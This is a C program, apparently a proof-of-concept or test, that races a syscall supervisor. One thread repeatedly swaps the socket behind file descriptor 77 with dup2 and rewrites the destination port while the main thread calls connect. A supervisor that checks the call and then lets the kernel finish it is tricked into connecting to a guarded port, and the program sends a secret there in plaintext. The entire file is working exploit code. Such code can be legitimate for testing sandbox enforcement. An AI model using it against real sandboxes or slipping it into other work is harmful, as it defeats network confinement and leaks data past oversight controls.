/*
 * Connects again and again while another thread puts another socket under the number, and another port into
 * the address: `number_race ADDRESS PORT SILENT-PORT TIMES SECRET`. The connection to SILENT-PORT is never
 * answered. A supervisor that begins it, and then lets the kernel wait for it, has the kernel connect the
 * other socket to PORT in plaintext. Writes SECRET to whoever it reached.
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <time.h>
#include <unistd.h>

enum { NUMBER = 77, LATEST = 400 /* microseconds */ };

static volatile struct sockaddr_in address = {.sin_family = AF_INET};
static in_port_t guarded;
static int other;
static atomic_int turn; /* 1: the other thread's; -1: the end */

static void spin(long nanoseconds)
{
    struct timespec begin, now;

    clock_gettime(CLOCK_MONOTONIC, &begin);
    do
        clock_gettime(CLOCK_MONOTONIC, &now);
    while ((now.tv_sec - begin.tv_sec) * 1000000000L + now.tv_nsec - begin.tv_nsec < nanoseconds);
}

static void *replace(void *unused)
{
    (void)unused;
    for (;;) {
        while (turn == 0)
            ;
        if (turn < 0)
            return NULL;
        spin((long)(rand() % LATEST) * 1000);
        address.sin_port = guarded;
        dup2(other, NUMBER);
        turn = 0;
    }
}

int main(int argc, char **argv)
{
    const struct timeval soon = {.tv_usec = 3000};
    struct in_addr host;
    pthread_t thread;

    if (argc != 6 || inet_pton(AF_INET, argv[1], &host) != 1)
        return 2;
    address.sin_addr.s_addr = host.s_addr;
    guarded = htons((in_port_t)atoi(argv[2]));
    pthread_create(&thread, NULL, replace, NULL);
    for (int left = atoi(argv[4]); left > 0; left--) {
        const int fd = socket(AF_INET, SOCK_STREAM, 0);

        setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &soon, sizeof soon);
        dup2(fd, NUMBER);
        other = socket(AF_INET, SOCK_STREAM, 0);
        address.sin_port = htons((in_port_t)atoi(argv[3]));
        turn = 1;
        if (connect(NUMBER, (const struct sockaddr *)(const void *)&address, sizeof address) == 0 &&
            write(NUMBER, argv[5], strlen(argv[5])) < 0)
            perror("write");
        while (turn > 0)
            ;
        close(NUMBER);
        close(fd);
        close(other);
    }
    turn = -1;
    pthread_join(thread, NULL);
    return 0;
}
